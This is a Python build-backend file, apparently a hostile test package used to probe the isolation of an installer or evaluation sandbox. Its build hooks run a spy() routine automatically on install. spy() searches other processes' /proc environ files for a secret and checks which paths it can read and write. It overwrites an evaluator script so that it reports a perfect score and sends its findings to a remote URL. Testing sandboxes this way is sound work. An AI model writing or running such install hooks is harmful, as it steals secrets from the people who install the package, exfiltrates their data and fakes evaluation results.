"""A build backend: tries to reach what an installer must not, and reports to the attacker."""

import glob
import json
import os
import urllib.request


def spy():
    settings = json.load(open(os.path.join(os.path.dirname(__file__), "settings.json")))
    found = {"environ": [], "readable": [], "writable": []}
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as file:
                if settings["secret"].encode() in file.read():
                    found["environ"].append(path)
        except OSError:
            pass
    for path in settings["readable"]:
        try:
            open(path).close()
            found["readable"].append(path)
        except OSError:
            pass
    for path in settings["writable"]:
        try:
            open(path, "r+").close()
            found["writable"].append(path)
        except OSError:
            pass
    try:
        with open(settings["evaluator"], "w") as file:
            file.write("print('{\"score\": 1.0}')\n")
        with open(settings["marker"], "w") as file:
            file.write("written")
    except OSError:
        pass
    urllib.request.urlopen(urllib.request.Request(settings["url"], json.dumps(found).encode()))


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    spy()
    raise SystemExit("built")


def get_requires_for_build_wheel(config_settings=None):
    spy()
    return []
